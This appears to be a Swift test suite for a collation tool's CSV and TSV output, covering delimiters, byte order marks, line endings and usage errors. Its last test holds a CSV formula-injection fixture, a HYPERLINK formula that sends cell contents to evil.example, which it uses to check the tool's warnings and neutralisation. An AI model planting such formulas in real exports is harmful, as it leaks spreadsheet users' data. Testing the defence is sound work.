import Foundation
import Testing
import TestSupport

/// `-f csv` for spreadsheets: the input's delimiter, `--output-delimiter`,
/// `--bom` and an input's byte order mark, CRLF in and out; and what CSV
/// output is for input without columns.
@Suite struct CSVOutputTests {
    private static let bom = Data([0xEF, 0xBB, 0xBF])

    @Test func outputDelimiterAndByteOrderMark() throws {
        let path = try CollateRunner.file("Name,City\nZorn,Bonn\nadam,\"Köln, Mitte\"\n", name: "people.csv")
        let result = try CollateRunner.run(["-l", "de", "-f", "csv", "--output-delimiter", ";", "--bom", path])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.output == Self.bom + Data("section;title;Name;City\n0;A;adam;Köln, Mitte\n25;Z;Zorn;Bonn\n".utf8))
        // Without the options: as before, `,` and no mark.
        let plain = try CollateRunner.run(["-l", "de", "-f", "csv", path])
        #expect(plain.stdout == "section,title,Name,City\n0,A,adam,\"Köln, Mitte\"\n25,Z,Zorn,Bonn\n")
        // Every report starts with the mark.
        let counts = try CollateRunner.run(["-l", "de", "-f", "csv", "--bom", "--counts", path])
        #expect(counts.output == Self.bom + Data("section,title,count\n0,A,1\n25,Z,1\n".utf8))
        let tsv = try CollateRunner.run(["-l", "de", "-f", "tsv", "--bom", "--sections-only", path])
        #expect(tsv.output == Self.bom + Data("section\ttitle\n0\tA\n25\tZ\n".utf8))
    }

    /// A `;` file comes back with `;` and its rows as read; CRLF in, CRLF out.
    @Test func semicolonAndCRLFComeBack() throws {
        let path = try CollateRunner.file("Name;City\r\nZorn;Bonn\r\nadam;\"Köln; Mitte\"\r\n", name: "leute.csv")
        let result = try CollateRunner.run(["-l", "de", "-f", "csv", path])
        #expect(result.stdout == "section;title;Name;City\r\n0;A;adam;\"Köln; Mitte\"\r\n25;Z;Zorn;Bonn\r\n")
        let counts = try CollateRunner.run(["-l", "de", "-f", "csv", "-c", path])
        #expect(counts.stdout == "section;title;count\r\n0;A;1\r\n25;Z;1\r\n")
        // LF in, LF out.
        let lf = try CollateRunner.file("Name;City\nZorn;Bonn\n", name: "lf.csv")
        #expect(try CollateRunner.run(["-l", "de", "-f", "csv", lf]).stdout == "section;title;Name;City\n25;Z;Zorn;Bonn\n")
    }

    /// An input's byte order mark is no record, and CSV output starts with one.
    @Test func anInputByteOrderMarkIsKept() throws {
        let path = try CollateRunner.file(Self.bom + Data("Name\nZorn\nadam\n".utf8), name: "bom.csv")
        let result = try CollateRunner.run(["-l", "en", "-f", "csv", path])
        #expect(result.output == Self.bom + Data("section,title,Name\n0,A,adam\n25,Z,Zorn\n".utf8))
        // Text output has none, as before.
        #expect(try CollateRunner.run(["-l", "en", path]).stdout == "A\n  adam\n\nZ\n  Zorn\n")
        // A UTF-16 file's mark too (the output is UTF-8).
        let utf16 = try CollateRunner.file(Data([0xFF, 0xFE] + "b\na\n".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }), name: "u.txt")
        #expect(try CollateRunner.run(["-l", "en", "-f", "csv", utf16]).output == Self.bom + Data("section,title,record\n0,A,a\n1,B,b\n".utf8))
    }

    /// Lines, JSON and vCards have no columns: the record is one field, and
    /// the options apply all the same.
    @Test func inputWithoutColumns() throws {
        let lines = try CollateRunner.run(["-l", "en", "-f", "csv", "--output-delimiter", ";"], stdin: "b;1\na\n")
        #expect(lines.stdout == "section;title;record\n0;A;a\n1;B;\"b;1\"\n")
        let json = try CollateRunner.file(#"["b", "a"]"#, name: "n.json")
        #expect(try CollateRunner.run(["-l", "en", "-f", "csv", json]).stdout == "section,title,record\n0,A,\"\"\"a\"\"\"\n1,B,\"\"\"b\"\"\"\n")
    }

    @Test(arguments: [["-f", "json", "--bom"], ["--bom"], ["-f", "tsv", "--output-delimiter", ";"], ["--output-delimiter", ";"],
                      ["-f", "csv", "--output-delimiter", "ab"]])
    func optionsForOtherFormatsAreUsageErrors(options: [String]) throws {
        let result = try CollateRunner.run(["-l", "en"] + options, stdin: "a\n")
        #expect(result.status == 2)
        #expect(result.stderr.contains(options.contains("--bom") ? "--bom is for --format csv and tsv" : "--output-delimiter"), "\(result.stderr)")
    }

    /// Formula cells went through with no warning and no way to neutralise
    /// them, in output the docs recommend for Excel.
    @Test func formulaCellsAreCountedOrNeutralised() throws {
        let lines = try CollateRunner.file("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\n@SUM(1+1)\nAnna\n-5\n", name: "inj.txt")
        let plain = try CollateRunner.run(["-l", "en", "-f", "csv", "--bom", "--output-delimiter", ";", lines])
        #expect(plain.status == 0)
        #expect(plain.stdout.contains("26;#;@SUM(1+1)\n"))
        #expect(plain.stderr.contains("warning: 2 cells begin with =, +, -, @"), "\(plain.stderr)")
        let safe = try CollateRunner.run(["-l", "en", "-f", "csv", "--spreadsheet-safe", lines])
        #expect(safe.stdout == "section,title,record\n0,A,Anna\n26,#,'-5\n26,#,'@SUM(1+1)\n26,#,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\n")
        #expect(safe.stderr.isEmpty)
        // CSV rows as read: only a row with a formula cell is re-encoded.
        let csv = try CollateRunner.file("name,n\n=1+1,-3\nAnna,x\n", name: "inj.csv")
        let rows = try CollateRunner.run(["-l", "en", "-f", "csv", "--spreadsheet-safe", csv])
        #expect(rows.stdout == "section,title,name,n\n0,A,Anna,x\n26,#,'=1+1,'-3\n")
        let counted = try CollateRunner.run(["-l", "en", "-f", "tsv", csv])
        #expect(counted.stderr.contains("warning: 1 cell begins with"), "\(counted.stderr)")
        #expect(try CollateRunner.run(["-l", "en", "--spreadsheet-safe", csv]).status == 2)
    }
}
